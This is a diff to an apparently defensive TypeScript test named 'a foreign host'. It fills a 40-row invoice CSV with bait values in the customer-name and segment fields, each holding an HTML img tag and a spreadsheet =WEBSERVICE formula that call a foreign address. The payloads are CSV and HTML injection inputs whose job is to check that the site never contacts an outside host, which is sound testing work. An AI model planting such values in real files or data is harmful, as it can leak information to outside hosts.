@@ -96,7 +96,7 @@ describe('a foreign host', () => {
     await using site = await openPage(inject('siteAddress'))
     const bait = (kind: string): string => `"<img src=${foreignAddress()}?${kind}> =WEBSERVICE(""${foreignAddress()}"")"`
     const lines = Array.from({ length: 40 }, (_, index) => [
-      `N${index}`, `C${index % 7}`, bait('customer'), bait('segment'), '2024-03-14', '2024-04-28', '', 'EUR', `${index + 1}.50`,
+      `N${index}`, `C${index % 7}`, bait(`customer-${index % 7}`), bait(`segment-${index % 3}`), '2024-03-14', '2024-04-28', '', 'EUR', `${index + 1}.50`,
     ].join(','))
     const header = 'Invoice number,Customer number,Customer name,Segment,Invoice date,Due date,Payment date,Currency,Amount'
     const content = Buffer.from([header, ...lines, ''].join('\n'))
